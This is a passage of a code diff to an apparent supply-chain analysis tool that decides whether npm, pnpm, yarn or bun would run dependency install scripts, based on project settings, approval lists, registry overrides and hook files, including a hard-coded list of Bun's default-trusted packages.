-  if (asString(member(engine, "name")) === "npm" && ["error", "download"].includes(onFail))
-    return refusesOlderThan(asString(member(engine, "version")));
-  const isStrict = settingOf4(npmrc, "engine-strict") === "true";
-  return isStrict && refusesOlderThan(asString(pick(manifest2, "engines", "npm")));
-}
-var LONGEST_RANGE = 256;
-function refusesOlderThan(range) {
-  if (range === void 0 || range.length > LONGEST_RANGE || (0, import_valid2.default)(range) === null) return false;
-  return !(0, import_intersects.default)(range, `<${BLOCKS_SCRIPTS}`, { includePrerelease: true });
-}
-function settingsIn(npmrc) {
-  return npmrc.flatMap(
-    ({ name, values, at: at2 }) => values.flatMap((value) => {
-      const effect = effectOf(name, value);
-      const of2 = name === "allow-scripts" ? value : null;
-      return effect === void 0 ? [] : [{ name, value, written: `${name}=${value}`, from: ".npmrc", effect, of: of2, at: at2 }];
-    })
-  );
-}
-function approvalSettings(manifest2) {
-  const table2 = member(manifest2, "allowScripts");
-  if (table2?.kind !== "object") return [];
-  return [...table2.entries].map(([key, { value, key: at2 }]) => {
-    const effect = value.kind === "boolean" && !value.value ? "less" : "more";
-    const written6 = `${key}: ${JSON.stringify(plain(value))}`;
-    return inManifest("allowScripts", written6, effect, approvalOf(key)?.name ?? null, at2);
-  });
-}
-function repairsIn(manifest2) {
-  const manager = asString(member(manifest2, "packageManager")) ?? "";
-  const fields = [
-    "packageExtensions",
-    "patchedDependencies",
-    ...manager.includes(":") ? ["packageManager"] : []
-  ];
-  return fields.flatMap((name) => {
-    const value = member(manifest2, name);
-    return value === void 0 ? [] : inManifest(name, JSON.stringify(plain(value)), "other", null, value.at);
-  });
-}
-function inManifest(name, value, effect, of2, at2) {
-  return { name, value, written: `${name} ${value}`, from: "package.json", effect, of: of2, at: at2 };
-}
-function approvalsIn(manifest2, npmrc) {
+// src/readers/npm-lock/approvals.ts
+function npmApprovals(manifest2, npmrc) {
   const table2 = member(manifest2, "allowScripts");
   const keys = table2?.kind === "object" && table2.entries.size > 0 ? [...table2.entries].map(([key, { value }]) => [key, plain(value)]) : (npmrc.find(({ name }) => name === "allow-scripts")?.values ?? []).flatMap(
     (value) => value.split(",").map((key) => [key.trim(), true])
@@ -19252,12 +21448,543 @@ function approvalOf(key) {
   const versions = rest2.split("||").map((version) => version.trim());
   return { name, versions: ["", "*"].includes(rest2.trim()) ? "all" : versions };
 }
-function isApproved({ name, version, source }, approvals) {
-  if (source.kind === "bundled") return false;
+function isApproved({ name, version }, approvals) {
   const said2 = approvals.filter((each) => {
     return [name, "*"].includes(each.name) && (each.versions === "all" || each.versions.includes(version));
   });
   return said2.length > 0 && said2.every(({ allows: allows2 }) => allows2);
+}
+
+// src/readers/npm-lock/bun-trusted.ts
+var BUN_TRUSTED = new Set(
+  [
+    "@airbnb/node-memwatch @anthropic-ai/claude-code @apollo/protobufjs @apollo/rover @appsignal/nodejs",
+    "@arkweid/lefthook @aws-amplify/cli @bahmutov/add-typescript-to-cypress @bazel/concatjs @bazel/cypress",
+    "@bazel/esbuild @bazel/hide-bazel-files @bazel/jasmine @bazel/protractor @bazel/rollup @bazel/terser",
+    "@bazel/typescript @bufbuild/buf @cdktf/node-pty-prebuilt-multiarch @ckeditor/ckeditor5-vue",
+    "@cloudflare/wrangler @contrast/fn-inspect @cubejs-backend/cubestore @cubejs-backend/native @cypress/snapshot",
+    "@danmarshall/deckgl-typings @datadog/mobile-react-native @discordjs/opus @eversdk/lib-node",
+    "@evilmartians/lefthook @ffmpeg-installer/darwin-arm64 @ffmpeg-installer/darwin-x64 @ffmpeg-installer/linux-arm",
+    "@ffmpeg-installer/linux-arm64 @ffmpeg-installer/linux-ia32 @ffmpeg-installer/linux-x64",
+    "@ffprobe-installer/darwin-arm64 @ffprobe-installer/darwin-x64 @ffprobe-installer/linux-arm",
+    "@ffprobe-installer/linux-arm64 @ffprobe-installer/linux-ia32 @ffprobe-installer/linux-x64",
+    "@fingerprintjs/fingerprintjs-pro-react @ghaiklor/x509 @go-task/cli @injectivelabs/sdk-ts @instana/autoprofile",
+    "@intlify/vue-i18n-bridge @intlify/vue-router-bridge @matteodisabatino/gc_info @memlab/cli",
+    "@microsoft.azure/autorest-core @microsoft/teamsfx-cli @microsoft/ts-command-line @napi-rs/pinyin",
+    "@nativescript/core @netlify/esbuild @newrelic/native-metrics @notarize/qlc-cli @nx-dotnet/core",
+    "@opensearch-project/oui @pact-foundation/pact-node @paloaltonetworks/postman-code-generators",
+    "@pdftron/pdfnet-node @percy/core @pnpm/exe @prisma/client @prisma/engines @progress/kendo-licensing",
+    "@pulumi/aws-native @pulumi/awsx @pulumi/command @pulumi/kubernetes @railway/cli @replayio/cypress",
+    "@replayio/playwright @roots/bud-framework @sap/hana-client @sap/hana-performance-tools @sap/hana-theme-vscode",
+    "@scarf/scarf @sematext/gc-stats @sentry/capacitor @sentry/profiling-node @serialport/bindings",
+    "@serialport/bindings-cpp @shopify/ngrok @shopify/plugin-cloudflare @sitespeed.io/chromedriver",
+    "@sitespeed.io/edgedriver @softvisio/core @splunk/otel @strapi/strapi @sveltejs/kit",
+    "@syncfusion/ej2-angular-base @taquito/taquito @temporalio/core-bridge @tensorflow/tfjs-node",
+    "@trufflesuite/bigint-buffer @typescript-tools/rust-implementation @vaadin/vaadin-usage-statistics",
+    "@vscode/ripgrep @vscode/sqlite3 abstract-socket admin-lte appdynamics appium-chromedriver",
+    "appium-windows-driver applicationinsights-native-metrics argon2 autorest aws-crt azure-functions-core-tools",
+    "azure-streamanalytics-cicd backport bcrypt better-sqlite3 bigint-buffer blake-hash bs-platform bufferutil bun",
+    "canvacord canvas cbor-extract chromedriver chromium classic-level cld cldr-data clevertap-react-native",
+    "clientjs cmark-gfm compresion contentlayer contextify cordova.plugins.diagnostic couchbase cpu-features",
+    "cwebp-bin cy2 cypress dd-trace deasync detox detox-recorder diskusage dotnet-2.0.0 dprint drivelist",
+    "dtrace-provider duckdb dugite eccrypto egg-bin egg-ci electron electron-chromedriver electron-prebuilt",
+    "electron-winstaller elm elm-format esbuild esoftplay event-loop-stats exifreader farmhash fast-folder-size",
+    "faunadb ffi ffi-napi ffmpeg-static fibers fmerge free-email-domains fs-xattr full-icu gatsby gc-stats",
+    "gcstats.js geckodriver gentype ghooks gif2webp-bin gifsicle git-commit-msg-linter git-validate git-win gl",
+    "go-ios grpc grpc-tools handbrake-js hasura-cli heapdump hiredis hnswlib-node hugo-bin hummus ibm_db iconv",
+    "iedriver iltorb incremental-json-parser install-peers interruptor iobroker.js-controller iso-constants",
+    "isolated-vm java jest-preview jpeg-recompress-bin jpegtran-bin keccak kerberos keytar lefthook leveldown",
+    "libpg-query libpq libxmljs libxmljs2 lightningcss-cli lint lmdb lmdb-store local-cypress lz4 lzma-native lzo",
+    "macos-alias mbt memlab microtime minidump mmmagic modern-syslog mongodb-client-encryption",
+    "mongodb-crypt-library-dummy mongodb-crypt-library-version mongodb-memory-server mozjpeg",
+    "ms-chromium-edge-driver msgpackr-extract msnodesqlv8 msw muhammara netlify-cli ngrok ngx-popperjs nice-napi",
+    "node node-expat node-hid node-jq node-libcurl node-mac-contacts node-pty node-rdkafka node-sass",
+    "node-webcrypto-ossl node-zopfli node-zopfli-es nodegit nodejieba nodent-runtime nx odiff-bin oniguruma",
+    "opencode-ai optipng-bin oracledb os-dns-native parse-server phantomjs phantomjs-prebuilt pkcs11js",
+    "playwright-chromium playwright-firefox playwright-webkit pngout-bin pngquant-bin posix pprof pre-commit",
+    "pre-push prisma protoc protoc-gen-grpc-web puppeteer purescript re2 react-jsx-parser react-native-stylex",
+    "react-particles react-tsparticles react-vertical-timeline-component realm redis-memory-server ref ref-napi",
+    "registry-js robotjs sauce-connect-launcher saucectl secp256k1 segfault-handler shared-git-hooks sharp",
+    "simple-git-hooks sleep slice2js snyk sockopt sodium-native sonar-scanner spago spectron spellchecker sq-native",
+    "sqlite3 sse4_crc32 ssh2 storage-engine subrequests subrequests-express subrequests-json-merger supabase",
+    "svf-lib swagger-ui swiftlint taiko tldjs tree-sitter tree-sitter-cli tree-sitter-json tree-sitter-kotlin",
+    "tree-sitter-typescript tree-sitter-yaml truffle tsparticles-engine ttag-cli ttf2woff2 typemoq unix-dgram",
+    "ursa-optional usb utf-8-validate v8-profiler-next vue-demi vue-echarts vue-inbrowser-compiler-demi wd wdeasync",
+    "weak-napi webdev-toolkit windows-build-tools wix-style-react wordpos workerd wrtc xxhash yarn yo yorkie zeromq",
+    "zlib-sync zopflipng-bin"
+  ].flatMap((line) => line.split(" "))
+);
+
+// src/readers/npm-lock/manager-version.ts
+var import_intersects = __toESM(require_intersects(), 1);
+var import_valid2 = __toESM(require_valid2(), 1);
+var BLOCKS_SCRIPTS = { npm: "12.0.0-0", pnpm: "10.0.0-0" };
+function blocksScripts(manager, manifest2, npmrc) {
+  const isNewer3 = (range) => refusesOlder(range, BLOCKS_SCRIPTS[manager]);
+  const engine = pick(manifest2, "devEngines", "packageManager");
+  const onFail = asString(member(engine, "onFail")) ?? "error";
+  const isDemanded = asString(member(engine, "name")) === manager && ["error", "download"].includes(onFail);
+  const engines = asString(pick(manifest2, "engines", manager));
+  if (manager === "npm")
+    return isDemanded ? isNewer3(asString(member(engine, "version"))) : writtenValue(npmrc, "engine-strict") === "true" && isNewer3(engines);
+  const [, named10] = /^pnpm@(\d[^+]*)/.exec(asString(member(manifest2, "packageManager")) ?? "") ?? [];
+  const isStrict = writtenValue(npmrc, "package-manager-strict") !== "false";
+  return isStrict && isNewer3(named10) || isNewer3(engines) || isDemanded && isNewer3(asString(member(engine, "version")));
+}
+var LONGEST_RANGE = 256;
+function refusesOlder(range, first) {
+  if (range === void 0 || range.length > LONGEST_RANGE || (0, import_valid2.default)(range) === null) return false;
+  return !(0, import_intersects.default)(range, `<${first}`, { includePrerelease: true });
+}
+
+// src/readers/npm-lock/settings/moved-source.ts
+var import_valid3 = __toESM(require_valid2(), 1);
+var LONGEST6 = 500;
+function isMovedSource(value) {
+  if (typeof value === "object" && value !== null) return Object.values(value).some(isMovedSource);
+  if (typeof value !== "string" || value.length > LONGEST6) return true;
+  const text3 = value.trim();
+  if (/^(?:workspace|catalog|patch):/.test(text3) || text3 === "" || text3 === "-" || text3.startsWith("$"))
+    return false;
+  const plain5 = text3.replace(/^npm:(?=[\d^~<>=*vx])/i, "");
+  return (0, import_valid3.default)(plain5, { loose: true }) === null && !/^[a-z][\w.-]*$/i.test(plain5);
+}
+
+// src/readers/npm-lock/settings/meanings.ts
+function guard(less, same = []) {
+  return {
+    decides: "guard",
+    effect: (value) => less.includes(value) ? "less" : same.includes(value) ? void 0 : "more"
+  };
+}
+var HOLDS_BACK = { decides: "guard", effect: (value) => value === 0 ? "more" : "less" };
+var EXCEPTIONS = { decides: "guard", effect: () => "more", each: "package" };
+var APPROVED = { decides: "approval", effect: approves, each: "package" };
+var DENIED = { decides: "approval", effect: () => "less", each: "package" };
+function approves(value) {
+  return value === true ? "more" : "less";
+}
+var ALL_APPROVED = {
+  decides: "approval",
+  effect: (value) => value === false ? void 0 : "more"
+};
+var CODE3 = { decides: "code", effect: () => "other" };
+var CODE_OF_EACH = { decides: "code", effect: () => "other", each: "name" };
+var SOURCE = { decides: "source", effect: () => "other" };
+var SOURCE_OF_EACH = { decides: "source", effect: () => "other", each: "name" };
+var PATCH_OF_EACH = { decides: "patch", effect: () => "other", each: "package" };
+var OVERRIDES = {
+  decides: "source",
+  effect: (value) => isMovedSource(value) ? "other" : void 0,
+  each: "name"
+};
+var DEFAULT_REGISTRY = /^https:\/\/(?:registry\.npmjs\.org|registry\.yarnpkg\.com)\/?$/;
+var REGISTRY = {
+  decides: "source",
+  effect: (value) => DEFAULT_REGISTRY.test(String(value)) ? void 0 : "other"
+};
+var PNPM = /* @__PURE__ */ new Map([
+  ["only-built-dependencies", APPROVED],
+  ["allow-builds", APPROVED],
+  ["never-built-dependencies", DENIED],
+  ["ignored-built-dependencies", DENIED],
+  ["dangerously-allow-all-builds", ALL_APPROVED],
+  ["overrides", OVERRIDES],
+  ["registry", REGISTRY],
+  ["registries", SOURCE_OF_EACH],
+  ["named-registries", SOURCE_OF_EACH],
+  ["proxy", SOURCE],
+  ["https-proxy", SOURCE],
+  ["http-proxy", SOURCE],
+  ["ca", SOURCE],
+  ["cafile", SOURCE],
+  ["node-download-mirrors", SOURCE_OF_EACH],
+  ["package-extensions", PATCH_OF_EACH],
+  ["patched-dependencies", PATCH_OF_EACH],
+  ["config-dependencies", CODE_OF_EACH],
+  ["pnpmfile", CODE3],
+  ["global-pnpmfile", CODE3],
+  ["script-shell", CODE3],
+  ["node-options", CODE3],
+  ["ignore-scripts", guard([true], [false])],
+  ["ignore-dep-scripts", guard([true], [false])],
+  ["ignore-pnpmfile", guard([true], [false])],
+  ["minimum-release-age", HOLDS_BACK],
+  ["minimum-release-age-strict", guard([true], [false])],
+  ["minimum-release-age-exclude", EXCEPTIONS],
+  ["trust-policy", guard(["no-downgrade"], ["off"])],
+  ["trust-policy-exclude", EXCEPTIONS],
+  ["trust-policy-ignore-after", { decides: "guard", effect: () => "more" }],
+  ["block-exotic-subdeps", guard([true])],
+  ["strict-dep-builds", guard([true])],
+  ["verify-store-integrity", guard([], [true])],
+  ["strict-ssl", guard([], [true])],
+  ["engine-strict", guard([true], [false])],
+  ["frozen-lockfile", guard([true])],
+  ["lockfile", guard([], [true])]
+]);
+var YARN = /* @__PURE__ */ new Map([
+  ["enable-scripts", { decides: "approval", effect: (value) => value === false ? "less" : "more" }],
+  ["yarn-path", CODE3],
+  ["plugins", { decides: "code", effect: () => "other", each: "name" }],
+  ["npm-registry-server", REGISTRY],
+  ["npm-scopes", SOURCE_OF_EACH],
+  ["http-proxy", SOURCE],
+  ["https-proxy", SOURCE],
+  ["https-ca-file-path", SOURCE],
+  ["network-settings", SOURCE_OF_EACH],
+  ["package-extensions", PATCH_OF_EACH],
+  ["approved-git-repositories", EXCEPTIONS],
+  ["npm-minimal-age-gate", HOLDS_BACK],
+  ["npm-preapproved-packages", EXCEPTIONS],
+  ["checksum-behavior", guard([], ["throw"])],
+  ["enable-hardened-mode", guard([true])],
+  ["enable-immutable-installs", guard([true])],
+  ["enable-immutable-cache", guard([true], [false])],
+  ["enable-strict-ssl", guard([], [true])],
+  ["unsafe-http-whitelist", EXCEPTIONS],
+  ["inject-environment-files", CODE_OF_EACH],
+  ["init-scope", SOURCE]
+]);
+var BUN = /* @__PURE__ */ new Map([
+  ["registry", REGISTRY],
+  ["scopes", SOURCE_OF_EACH],
+  ["ca", SOURCE],
+  ["cafile", SOURCE],
+  ["security", CODE_OF_EACH],
+  ["ignore-scripts", guard([true], [false])],
+  ["frozen-lockfile", guard([true], [false])],
+  ["minimum-release-age", HOLDS_BACK],
+  ["minimum-release-age-excludes", EXCEPTIONS]
+]);
+var MANIFEST = /* @__PURE__ */ new Map([
+  ["trusted-dependencies", APPROVED],
+  ["overrides", OVERRIDES],
+  ["resolutions", OVERRIDES],
+  ["package-extensions", PATCH_OF_EACH],
+  ["patched-dependencies", PATCH_OF_EACH]
+]);
+
+// src/readers/npm-lock/settings/said.ts
+function inOneLine(value) {
+  return value.kind === "string" ? value.value : JSON.stringify(plain(value));
+}
+function kebab(name) {
+  return name.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`);
+}
+function settingsOf3(table2, from, meaningOf3) {
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].flatMap(([key, { key: at2, value }]) => {
+    const name = kebab(key);
+    const meaning2 = meaningOf3(name);
+    if (meaning2 === "harmless") return [];
+    const setting12 = { name, from, of: null, at: at2 };
+    if (meaning2 === "unknown") {
+      const written6 = inOneLine(value);
+      return [
+        { ...setting12, value: written6, written: `${key}: ${written6}`, effect: "other", decides: "unknown" }
+      ];
+    }
+    return meaning2.each === void 0 ? one(setting12, key, value, meaning2) : entriesOf6(value).flatMap((entry) => ofEntry(setting12, key, entry, meaning2));
+  });
+}
+function one(heading, key, value, { decides: decides3, effect }) {
+  const does = effect(plain(value));
+  const written6 = inOneLine(value);
+  return does === void 0 ? [] : [{ ...heading, value: written6, written: `${key}: ${written6}`, effect: does, decides: decides3 }];
+}
+function entriesOf6(value) {
+  if (value.kind === "object")
+    return [...value.entries].map(([name, { key, value: said2 }]) => ({ name, value: said2, at: key }));
+  if (value.kind !== "array") return [{ name: inOneLine(value), value: null, at: value.at }];
+  return value.items.map((item) => ({
+    name: inOneLine(member(item, "path") ?? item),
+    value: null,
+    at: item.at
+  }));
+}
+function ofEntry({ name, from }, key, entry, { decides: decides3, effect, each }) {
+  const does = effect(entry.value === null ? true : plain(entry.value));
+  if (does === void 0) return [];
+  const said2 = entry.value === null ? "" : `: ${inOneLine(entry.value)}`;
+  const of2 = each === "package" ? nameIn5(entry.name) : entry.name;
+  const value = entry.value === null || decides3 === "approval" ? versionIn3(entry.name) : inOneLine(entry.value);
+  return [
+    { name, from, of: of2, value, written: `${key}: ${entry.name}${said2}`, effect: does, decides: decides3, at: entry.at }
+  ];
+}
+function nameIn5(key) {
+  return /^(@[^@/:\s]+\/[^@:\s>]+|[^@:\s>]+)/.exec(key)?.[1] ?? key;
+}
+function versionIn3(key) {
+  const rest2 = key.slice(nameIn5(key).length).replace(/^@/, "");
+  return rest2 === "*" ? "" : rest2;
+}
+
+// src/readers/npm-lock/install-policy.ts
+function folderPolicy(manifest2, npmrc, others = []) {
+  const settings2 = [...settingsIn3(npmrc), ...approvalSettings(manifest2), ...managersIn2(manifest2), ...others];
+  const decided = {
+    npm: npmDecides(manifest2, npmrc),
+    pnpm: pnpmDecides(manifest2, npmrc, settings2),
+    yarn: yarnDecides(npmrc, settings2),
+    bun: bunDecides(manifest2, settings2)
+  };
+  const policies = INSTALLERS.map((installer) => [installer, decided[installer].scripts]);
+  return {
+    scripts: Object.fromEntries(policies),
+    settings: settings2,
+    outcomeOf(installer, entry) {
+      const { scripts, isApproved: approved } = decided[installer];
+      if (scripts === "none") return "never";
+      return scripts === "all" || approved(entry) ? "runs" : "waits";
+    }
+  };
+}
+function npmDecides(manifest2, npmrc) {
+  const approvals = npmApprovals(manifest2, npmrc);
+  const everything = writtenValue(npmrc, "dangerously-allow-all-scripts");
+  const waits2 = blocksScripts("npm", manifest2, npmrc) && (everything === void 0 || everything === "false");
+  return {
+    scripts: ignoresScripts(npmrc) ? "none" : waits2 ? "approved" : "all",
+    isApproved: (entry) => entry.source.kind !== "bundled" && isApproved(entry, approvals)
+  };
+}
+var PNPM_APPROVALS = /* @__PURE__ */ new Set(["only-built-dependencies", "allow-builds"]);
+var PNPM_DENIALS = /* @__PURE__ */ new Set(["never-built-dependencies", "ignored-built-dependencies", "allow-builds"]);
+function pnpmDecides(manifest2, npmrc, settings2) {
+  const is = (name) => settings2.some((each) => each.name === name && each.of === null && each.effect === "less");
+  const hasList = settings2.some(({ name }) => name === "only-built-dependencies");
+  const all = settings2.some(({ name }) => name === "dangerously-allow-all-builds");
+  const waits2 = hasList || blocksScripts("pnpm", manifest2, npmrc);
+  const approvals = approvalsFrom(settings2, PNPM_APPROVALS, "more");
+  const denials = approvalsFrom(settings2, PNPM_DENIALS, "less");
+  if (ignoresScripts(npmrc) || is("ignore-scripts") || is("ignore-dep-scripts"))
+    return { scripts: "none", isApproved: () => false };
+  return {
+    scripts: waits2 && !all ? "approved" : "all",
+    isApproved: (entry) => isApproved(entry, [...approvals, ...denials])
+  };
+}
+function yarnDecides(npmrc, settings2) {
+  const isOff = settings2.some(({ name, effect }) => name === "enable-scripts" && effect === "less");
+  const approvals = approvalsFrom(settings2, /* @__PURE__ */ new Set(["built"]), "more");
+  return {
+    scripts: ignoresScripts(npmrc) ? "none" : isOff ? "approved" : "all",
+    isApproved: (entry) => isApproved(entry, approvals)
+  };
+}
+function bunDecides(manifest2, settings2) {
+  const approvals = approvalsFrom(settings2, /* @__PURE__ */ new Set(["trusted-dependencies"]), "more");
+  const isDefault = member(manifest2, "trustedDependencies") === void 0;
+  return {
+    scripts: "approved",
+    isApproved: (entry) => isDefault ? isOwnRegistry(entry.source) && BUN_TRUSTED.has(entry.name) : isApproved(entry, approvals)
+  };
+}
+function approvalsFrom(settings2, names3, effect) {
+  return settings2.filter((each) => names3.has(each.name) && each.of !== null && each.effect === effect).map(({ of: of2, value }) => ({
+    name: of2 ?? "",
+    versions: value === "" ? "all" : value.split("||").map((version) => version.trim()),
+    allows: effect === "more"
+  }));
+}
+function ignoresScripts(npmrc) {
+  return writtenValue(npmrc, "ignore-scripts") === "true";
+}
+function settingsIn3(npmrc) {
+  return npmrc.flatMap(
+    ({ name, values, at: at2 }) => values.flatMap((value) => {
+      const written6 = `${name}=${value}`;
+      const heading = { name, written: written6, from: ".npmrc", at: at2 };
+      const meaning2 = PNPM.get(name);
+      if (meaning2?.each !== void 0) {
+        const effect2 = meaning2.effect(true);
+        return effect2 === void 0 ? [] : [{ ...heading, value: "", of: nameIn5(value), effect: effect2, decides: meaning2.decides }];
+      }
+      const effect = effectOf(name, value);
+      const of2 = name === "allow-scripts" ? nameIn5(value) : null;
+      return effect === void 0 ? [] : [{ ...heading, value, of: of2, effect, decides: decidedBy(name) }];
+    })
+  );
+}
+function approvalSettings(manifest2) {
+  const table2 = member(manifest2, "allowScripts");
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].map(([key, { value, key: at2 }]) => {
+    const effect = value.kind === "boolean" && !value.value ? "less" : "more";
+    const of2 = nameIn5(key);
+    const [, version = ""] = key.slice(of2.length).split("@");
+    return {
+      name: "allow-scripts",
+      value: version === "*" ? "" : version,
+      written: `allowScripts ${key}: ${JSON.stringify(plain(value))}`,
+      from: "package.json",
+      effect,
+      decides: "approval",
+      of: of2,
+      at: at2
+    };
+  });
+}
+function managersIn2(manifest2) {
+  const value = member(manifest2, "packageManager");
+  const text3 = asString(value) ?? "";
+  return value === void 0 || !text3.includes(":") ? [] : [fromAddress(text3, value.at)];
+}
+function fromAddress(value, at2) {
+  const written6 = `packageManager ${JSON.stringify(value)}`;
+  return {
+    name: "package-manager",
+    value,
+    written: written6,
+    from: "package.json",
+    effect: "other",
+    decides: "code",
+    of: null,
+    at: at2
+  };
+}
+
+// src/readers/npm-lock/settings/harmless.ts
+function names(...lines2) {
+  return new Set(lines2.flatMap((line) => line.split(" ")));
+}
+var HARMLESS_PNPM = names(
+  "packages catalog catalogs catalog-mode cleanup-unused-catalogs hoist hoist-workspace-packages hoist-pattern",
+  "public-hoist-pattern shamefully-hoist hoisting-limits modules-dir modules-cache-max-age node-linker symlink",
+  "enable-modules-dir virtual-store-dir virtual-store-dir-max-length virtual-store-only package-import-method store-dir",
+  "enable-global-virtual-store prefer-frozen-lockfile lockfile-include-tarball-url git-branch-lockfile",
+  "merge-git-branch-lockfiles-branch-pattern peers-suffix-max-length auto-install-peers dedupe-peer-dependents",
+  "strict-peer-dependencies resolve-peers-from-workspace-root peer-dependency-rules fetch-retries fetch-retry-factor",
+  "fetch-retry-mintimeout fetch-retry-maxtimeout fetch-timeout fetch-warn-timeout-ms fetch-min-speed-ki-bps",
+  "network-concurrency maxsockets color loglevel use-beta-cli recursive-install package-manager-strict",
+  "package-manager-strict-version manage-package-manager-versions child-concurrency side-effects-cache",
+  "side-effects-cache-readonly workspace-concurrency fail-if-no-match deploy-all-files link-workspace-packages",
+  "prefer-workspace-packages shared-workspace-lockfile include-workspace-root ignore-workspace-cycles",
+  "disallow-workspace-cycles ignore-workspace-root-check save-workspace-protocol save-prefix save-exact tag",
+  "resolution-mode update-notifier cache-dir state-dir dlx-cache-max-age offline prefer-offline",
+  "supported-architectures ignored-optional-dependencies allowed-deprecated-versions update-config audit-config audit",
+  "audit-level required-scripts enable-pre-post-scripts verify-deps-before-run optimistic-repeat-install shell-emulator",
+  "extend-node-path dedupe-injected-deps dedupe-direct-deps inject-workspace-packages prefer-symlinked-executables",
+  "sync-injected-deps-after-scripts allow-unused-patches allow-non-applied-patches ignore-patch-failures",
+  "force-legacy-deploy init-package-manager init-type ignore-compatibility-db prefer-hidden-deps publish-branch git-checks",
+  "dry-run reporter bail sort reverse include-dev-dependencies dev optional production unsafe-perm dangerously-allow-none"
+);
+var HARMLESS_YARN = names(
+  "node-linker nm-hoisting-limits nm-mode nm-self-references pnp-mode pnp-fallback-mode pnp-enable-inlining",
+  "pnp-enable-esm-loader pnp-shebang pnp-ignore-patterns pnp-unplugged-folder pnp-data-path install-state-path",
+  "cache-folder cache-migration-mode compression-level global-folder enable-global-cache enable-mirror deferred-version-folder",
+  "default-language-name default-protocol default-semver-range-prefix prefer-interactive prefer-deferred-versions",
+  "prefer-reuse enable-progress-bars progress-bar-style enable-colors enable-hyperlinks enable-timers enable-inline-builds",
+  "enable-inline-hunks enable-message-names enable-constraints-checks enable-offline-mode enable-telemetry enable-tips",
+  "telemetry-interval telemetry-user-id immutable-patterns init-fields lockfile-filename log-filters logfilters bstate-path",
+  "changeset-base-refs changeset-ignore-patterns catalog catalogs http-retry http-timeout network-concurrency",
+  "network-setting npm-always-auth npm-auth-ident npm-auth-token npm-publish-access npm-publish-registry",
+  "npm-audit-exclude-packages npm-audit-ignore-advisories npm-audit-registry npm-registries npm-publish-provenance",
+  "supported-architectures task-pool-concurrency task-pool-mode tsenable-auto-types ts-enable-auto-types",
+  "virtual-folder win-link-type worker-pool-concurrency worker-pool-mode clone-concurrency rc-filename",
+  "ignore-path ignore-cwd enable-network patch-folder constraints-path"
+);
+var HARMLESS_BUN = names(
+  "optional dev peer production exact save-text-lockfile auto dry-run global-dir global-bin-dir cache",
+  "lockfile linker log-level prefer concurrent-scripts link-workspace-packages network-concurrency global-store"
+);
+
+// src/readers/npm-lock/settings/files-settings.ts
+var SETTINGS_FILES = ["pnpm-workspace.yaml", ".yarnrc.yml", "bunfig.toml"];
+var HOOK_FILES = [
+  ...[".npm-extension.cjs", ".npm-extension.mjs"],
+  ...[".pnpmfile.cjs", ".pnpmfile.mjs", "pnpmfile.js"]
+];
+function folderSettings(path, manifest2, files, contents) {
+  const gaps = [];
+  const read9 = (name) => {
+    const file2 = files.get(inFolder(path, name));
+    const parsed7 = file2 && parseFile(file2);
+    if (file2 === void 0 || parsed7?.ok) return parsed7?.ok ? parsed7.value : void 0;
+    const message = `${code(file2.path)} can't be read, so it isn't known what it says of installing packages: ${parsed7?.message}`;
+    gaps.push(gapAt(parsed7?.at ?? topOf(file2.path), { kind: "unparsed", rests: contentOf(file2), message }));
+    return void 0;
+  };
+  const settings2 = [
+    ...settingsOf3(manifest2, "package.json", (name) => MANIFEST.get(name) ?? "harmless"),
+    ...settingsOf3(member(manifest2, "pnpm"), "package.json", inPnpm),
+    ...builtInManifest(member(manifest2, "dependenciesMeta")),
+    ...settingsOf3(read9("pnpm-workspace.yaml"), "pnpm-workspace.yaml", inPnpm),
+    ...settingsOf3(read9(".yarnrc.yml"), ".yarnrc.yml", (name) => YARN.get(name) ?? known2(HARMLESS_YARN, name)),
+    ...settingsOf3(member(read9("bunfig.toml"), "install"), "bunfig.toml", inBun)
+  ];
+  return { settings: settings2.map((each) => withContent(each, path, contents)), gaps };
+}
+function inPnpm(name) {
+  return PNPM.get(name) ?? known2(HARMLESS_PNPM, name);
+}
+function inBun(name) {
+  return BUN.get(name) ?? known2(HARMLESS_BUN, name);
+}
+function known2(harmless, name) {
+  return harmless.has(name) ? "harmless" : "unknown";
+}
+function builtInManifest(table2) {
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].flatMap(([key, { key: at2, value }]) => {
+    const built = member(value, "built");
+    if (built?.kind !== "boolean") return [];
+    const [, name = key, version = ""] = /^(@?[^@]+)(?:@(.*))?$/.exec(key) ?? [];
+    return [
+      {
+        name: "built",
+        value: version,
+        of: name,
+        written: `dependenciesMeta: ${key}: built: ${built.value}`,
+        from: "package.json",
+        effect: built.value ? "more" : "less",
+        decides: "approval",
+        at: at2
+      }
+    ];
+  });
+}
+function withContent(setting12, folder, contents) {
+  if (setting12.decides !== "patch" && setting12.decides !== "code") return setting12;
+  const place = joined(
+    folder,
+    setting12.decides === "code" && setting12.of !== null ? setting12.of : setting12.value
+  );
+  const content = place === null || place === "" ? "" : contents.at(place);
+  return content === "" ? setting12 : { ...setting12, value: `${setting12.value} ${content}` };
+}
+function hookFiles(path, contents) {
+  return HOOK_FILES.filter((name) => contents.isFile(inFolder(path, name))).map((name) => ({
+    name,
+    value: contents.at(inFolder(path, name)),
+    of: null,
+    written: name,
+    from: "file",
+    effect: "other",
+    decides: "code",
+    at: topOf(inFolder(path, name))
+  }));
+}
+
+// src/readers/npm-lock/settings/overridden.ts
+function overriddenNames(manifest2, workspace) {
+  const tables2 = [
+    member(manifest2, "overrides"),
+    member(manifest2, "resolutions"),
+    member(member(manifest2, "pnpm"), "overrides"),
+    member(workspace, "overrides")
+  ];
+  return new Set(tables2.flatMap(namesIn4));
+}
+function namesIn4(table2) {
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].flatMap(([key, { value }]) => [nameOfOverride(key), ...namesIn4(value)]);
+}
+function nameOfOverride(key) {
+  const last = key.slice(key.lastIndexOf(">") + 1);
+  return /((?:@[^/@]+\/)?[^/@]+)(?:@[^/]*(?:\/\S*)?)?$/.exec(last)?.[1] ?? last;
 }
 
 // src/readers/npm-lock/install-folder.ts
@@ -19276,17 +22003,30 @@ function installFolder({ files, contents }, path, commands2) {
   }
   const manifest2 = parsed7?.ok ? parsed7.value : void 0;
   const npmrc = settings2 ?? [];
+  const workspaceFile = files.get(inFolder(path, "pnpm-workspace.yaml"));
+  const workspaceRead = workspaceFile && parseFile(workspaceFile);
+  const workspace = workspaceRead?.ok ? workspaceRead.value : void 0;
   const own = commands2.filter(({ folders }) => folders === null || folders.includes(path));
-  const said2 = folderPolicy(manifest2, npmrc);
